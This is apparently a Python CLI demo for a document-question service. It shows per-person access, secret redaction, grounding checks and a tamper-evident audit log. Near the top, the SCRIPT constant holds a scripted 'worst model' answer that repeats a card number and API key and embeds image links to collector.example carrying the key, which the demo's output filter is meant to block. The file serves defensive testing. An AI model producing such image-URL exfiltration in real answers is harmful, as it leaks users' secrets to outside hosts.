"""`clearance demo`: asks the running instance, proves the log, and filters one scripted answer, labelled as such."""

import os
import tempfile
import time
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import typer
import yaml
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

from app.cli.ask import grounding_notes
from app.cli.connection import HOME, ConnectionOptions, Home, find_url, person_key
from app.cli.console import out
from app.cli.demo_grounding import RIGHT, WRONG, ground_script
from app.cli.demo_output import (
    StreamWindow,
    all_text,
    alphanumeric,
    format_redactions,
    print_aside,
    print_report,
    print_title,
    render_answer,
    stream_summary,
)
from app.client.api import Client, path
from app.client.errors import UserError
from app.evidence.merkle import Head, decode
from app.evidence.verify import verify
from app.guardrail.answer_filter import AnswerFilter
from app.guardrail.checks import default_checks
from app.guardrail.redaction import Redaction
from app.local.sample_people import PEOPLE_FILE, SAMPLE_FOLDER, read_people

QUESTIONS = SAMPLE_FOLDER / "questions.yaml"
AUDITOR = "oskar"
# The sequencer appends records to the log every half second; a busy machine takes longer.
SEQUENCING_SECONDS = 20.0
# What the worst model would say: it repeats the secrets, and tries to send them away in the address of an image.
SCRIPT = (
    "The card is {card}, so here it is once more in bold: **{card}** [1].\n"
    "The API key is {key} [1].\n"
    "![chart](https://collector.example/?q={key})\n"
    "<img src=https://collector.example/?q=forecast>\n"
)
PIECE_LENGTH = 4
REASON = "The demonstration shows what was asked."
EDIT_AFTER = b'"kind\\":\\"answer.opened'


class CannotDemo(UserError):
    """The sample company is not loaded."""


def demo(*, home: Home = HOME) -> None:
    """One question, two people, two answers; secrets redacted; all of it in the audit log, proved to be unchanged."""
    options = ConnectionOptions(None, None, None, home)
    people = read_people(home / PEOPLE_FILE)
    if not people:
        raise CannotDemo("the demo needs the sample company: 'clearance run' in another terminal loads it")
    with ExitStack() as stack:

        def client(name: str) -> Client:
            url = find_url(options, os.environ)
            return stack.enter_context(Client(url, person_key(options, os.environ, name)))

        entries = yaml.safe_load(QUESTIONS.read_text(encoding="utf-8"))["demo"]
        failures = _Demo(client, people, entries).run()
    if failures:
        out.print(Text("\nNot as promised: " + "; ".join(failures), "bold red"))
        raise typer.Exit(1)


@dataclass
class _Demo:
    """The parts of the demo. `failures` collects what is not as promised."""

    client: Callable[[str], Client]
    people: dict[str, dict[str, Any]]
    entries: list[dict[str, Any]]
    failures: list[str] = field(default_factory=list)
    trails: dict[str, str] = field(default_factory=dict)  # audit trail id → asker

    def run(self) -> list[str]:
        begin = time.monotonic()
        self.two_answers()
        self.redaction()
        self.grounding()
        self.audit()
        print_aside(f"\n{time.monotonic() - begin:.0f} s, asked of the running service just now, but for the script.")
        return self.failures

    def two_answers(self) -> None:
        """The first question, asked by everybody who asks the same."""
        question = self.entries[0]["question"]
        pair = [entry for entry in self.entries if entry["question"] == question]
        print_title("1  One question, two people, two answers")
        out.print(Text.assemble("“", (question, "bold"), "”\n"))
        for entry in pair:
            answer = self._ask_for_quotes(entry)
            self._print_answer(entry["asker"], answer)
            others = [other for other in pair if other is not entry]
            self._check_answer(entry, answer, others)

    def redaction(self) -> None:
        """A document with a card number and an API key, asked for by somebody who may read it."""
        entry = next(e for e in self.entries if e.get("redacted"))
        print_title("2  Secrets that stand in a document do not come out of it")
        out.print(Text.assemble("“", (entry["question"], "bold"), "”\n"))
        answer = self._ask_for_quotes(entry)
        self._check_original(entry, answer)
        self._print_answer(entry["asker"], answer, ", quoted")
        self._check_secrets(entry, answer, "the quotes")
        if not answer["redactions"]:
            self._fail("nothing was redacted in the quotes")
        self._filter_script(entry)
        quoted, written = self._ask_for_stream(entry, "quote"), self._ask_for_stream(entry, "generate")
        print_aside(stream_summary(quoted, written))

    def grounding(self) -> None:
        """A scripted answer with changed and invented sentences, checked against the document it is about."""
        entry = next(e for e in self.entries if e["source"].startswith("finance/"))
        print_title("3  What the passages do not say is not passed on")
        answer = self._ask_for_quotes(entry)
        [document] = {s["document"] for s in answer["sources"] if f"{s['collection']}/{s['path']}" == entry["source"]}
        opened = self.client(entry["asker"]).get(path("documents", document))
        text, report = ground_script(entry["question"], opened)
        print_aside("\n" + " · ".join(grounding_notes({**report.counts, "reasons": report.reasons})))
        if any(wrong in text for wrong in WRONG):
            self._fail("grounding let a wrong sentence through")
        if not all(right in text for right in RIGHT):
            self._fail("grounding left out a sentence that the passages support")

    def _filter_script(self, entry: dict[str, Any]) -> None:
        """Filter the answer of a model that gives everything away, which no real model does on demand."""
        out.print(Text("A model that gives everything away would stream this (a script, in pieces of"))
        out.print(Text(f"{PIECE_LENGTH} characters). The gate that every answer passes lets out:\n"))
        card, key = entry["redacted"]
        script = SCRIPT.format(card=card, key=key)
        window = StreamWindow()
        answer_filter = AnswerFilter(Redaction(default_checks()), sources=1)
        for at in range(0, len(script), PIECE_LENGTH):
            window.feed(answer_filter.feed(script[at : at + PIECE_LENGTH]))
        window.feed(answer_filter.flush())
        window.close()
        self._check_secrets(entry, {"answer": window.text}, "the scripted stream")
        if window.text.count("[redacted: ") < len(entry["redacted"]) or "![" in window.text:
            self._fail("the gate let the scripted stream through")

    def _ask_for_stream(self, entry: dict[str, Any], mode: str) -> dict[str, Any]:
        """Ask for a streamed answer, and check all of it for secrets."""
        text, answer = "", {}
        for name, data in self.client(entry["asker"]).ask_streamed({"question": entry["question"], "mode": mode}):
            if name == "delta":
                text += data["text"]
            elif name == "done":
                answer = {**data, "answer": text}
        self.trails[answer["trail"]] = entry["asker"]
        self._check_secrets(entry, answer, f"the streamed answer ({mode})")
        return answer

    def audit(self) -> None:
        """Print the audit records of these questions, and verify an export, intact and with one bit changed."""
        print_title("4  Afterwards: who asked what, and what was it shown")
        auditor = self.client(AUDITOR)
        events = self._events(auditor)
        for trail, asker in self.trails.items():
            both = (events.get((trail, "answer.opened")), events.get((trail, "answer.closed")))
            self._print_trail(auditor, asker, *both)
        print_aside("Each question stood sealed: it was opened for a reason, which the log keeps, and its asker sees.")
        print_aside("Oskar may read the log, not the documents: it names passages by id and holds none of their text.")
        print_title("5  And proof that nobody changed the log")
        with tempfile.TemporaryDirectory() as folder:
            self._verify(auditor, Path(folder) / "audit.jsonl")

    def _verify(self, auditor: Client, file: Path) -> None:
        published = auditor.get("/audit/head")
        head = Head(published["size"], decode(published["root"]))
        file.write_bytes(b"".join(auditor.stream_bytes("/audit/export", format="jsonl")))
        out.print(Text.assemble("Head kept elsewhere: ", (str(head), "cyan")))
        report = verify(file, head=head)
        print_report("The export", report)
        if not report.ok:
            self._fail("the export does not verify")
        content = bytearray(file.read_bytes())
        place = content.index(EDIT_AFTER) + len(EDIT_AFTER) - 1
        content[place] ^= 1
        file.write_bytes(content)
        print_aside(f"One bit of byte {place:,} of {len(content):,} is turned over …")
        edited = verify(file, head=head)
        print_report("The edited export", edited)
        if edited.ok:
            self._fail("an edited byte was not found")

    def _ask_for_quotes(self, entry: dict[str, Any]) -> dict[str, Any]:
        body = {"question": entry["question"], "mode": "quote"}
        answer: dict[str, Any] = self.client(entry["asker"]).post("/ask", body)
        self.trails[answer["trail"]] = entry["asker"]
        return answer

    def _check_answer(self, entry: dict[str, Any], answer: dict[str, Any], others: list[dict[str, Any]]) -> None:
        text = all_text(answer)
        if entry["expected"] not in text:
            self._fail(f"{entry['asker']} does not get “{entry['expected']}”")
        for other in others:
            if entry["asker"] in other["hidden_from"] and (other["expected"] in text or other["source"] in text):
                self._fail(f"{entry['asker']} sees what {other['source']} says")

    def _check_original(self, entry: dict[str, Any], answer: dict[str, Any]) -> None:
        """Check that there is something to redact: the file itself contains the secrets."""
        place = entry["source"].split("/", 1)
        sources = [s for s in answer["sources"] if [s["collection"], s["path"]] == place]
        if not sources:
            self._fail(f"{entry['source']} is not among the sources")
            return
        pieces = self.client(entry["asker"]).stream_bytes(path("documents", sources[0]["document"], "original"))
        original = b"".join(pieces).decode(errors="replace")
        present = [secret for secret in entry["redacted"] if secret in original]
        if len(present) < len(entry["redacted"]):
            self._fail("the original does not hold the planted secrets")
        count = f"{len(present)} planted secrets"
        print_aside(f"The file {entry['source']} holds {count}; the original needs the right to download.")

    def _check_secrets(self, entry: dict[str, Any], answer: dict[str, Any], where: str) -> None:
        text = alphanumeric(all_text(answer))
        if any(alphanumeric(secret) in text for secret in entry["redacted"]):
            self._fail(f"a secret came out in {where}")

    def _events(self, auditor: Client) -> dict[tuple[str, str], dict[str, Any]]:
        """The records of all trails by (trail, kind), once the sequencer has appended them."""
        deadline = time.monotonic() + SEQUENCING_SECONDS
        while True:
            recent = auditor.get("/audit/events", newest_first=True, limit=200)["events"]
            events = {
                (e["record"]["trail"], e["record"]["kind"]): e
                for e in recent
                if e["record"] and e["record"]["trail"] in self.trails
            }
            if len(events) == 2 * len(self.trails) or time.monotonic() > deadline:
                return events
            time.sleep(0.5)

    def _print_trail(
        self, auditor: Client, asker: str, opened: dict[str, Any] | None, closed: dict[str, Any] | None
    ) -> None:
        if opened is None or closed is None:
            self._fail(f"a question of {asker} is not in the log")
            return
        record, end = opened["record"], closed["record"]
        if opened["name"] != asker:
            self._fail(f"a question of {asker} is recorded as one of {opened['name']}")
        redacted = format_redactions(end) or "nothing"
        if opened["opened"]:
            self._fail(f"the question of {asker} stands open in the log")
        opening = auditor.post("/audit/openings", {"record": record["id"], "reason": REASON})
        shown = auditor.get(path("audit", "events", str(opened["seq"])), opening=opening["id"])["event"]
        question = shown["opened"].get("question", {}).get("text")
        if not question:
            self._fail(f"the auditor cannot open the question of {asker}")
        facts = (
            f"{record['mode']} · {len(record['passages'])} passages up to {record['label']} · redacted: {redacted}\n"
            f"recorded before the answer began, closed as no. {closed['seq']}: {end['outcome']}"
        )
        line = Table.grid(padding=(0, 1))
        line.add_row(Text(f"{opened['seq']:>4}", "cyan"), Text(f"{asker:<5}", "bold"),
                     Text.assemble(f"“{question}”\n", (facts, "dim")))  # fmt: skip
        out.print(line)

    def _print_answer(self, asker: str, answer: dict[str, Any], suffix: str = "") -> None:
        person = self.people[asker]
        title = Text.assemble((person["display_name"], "bold cyan"), f", {person['title']}", (suffix, "dim"))
        out.print(Panel(render_answer(answer), title=title, title_align="left", padding=(0, 1)))

    def _fail(self, promise: str) -> None:
        self.failures.append(promise)
        out.print(Text(f"✗ {promise}", "bold red"))
